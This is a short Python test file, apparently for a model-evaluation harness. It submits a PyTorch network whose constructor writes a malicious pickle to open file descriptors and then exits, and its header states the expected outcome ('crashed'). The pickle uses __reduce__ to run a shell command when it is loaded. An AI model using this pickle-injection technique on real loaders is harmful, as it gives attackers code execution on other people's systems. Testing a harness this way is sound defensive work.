"""Send a pickle that runs a command where it is loaded; nobody loads it.

expect: crashed
reason: report can't be read
"""

import contextlib
import os
import pickle

from torch import nn


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()

        class Payload:
            def __reduce__(self):
                return os.system, ("touch /tmp/nnloop-was-here",)

        for descriptor in range(3, 50):
            with contextlib.suppress(OSError):
                os.write(descriptor, pickle.dumps(Payload()) + b"\n")
        os._exit(0)
        self.head = nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, x):
        return self.head(x.flatten(1))
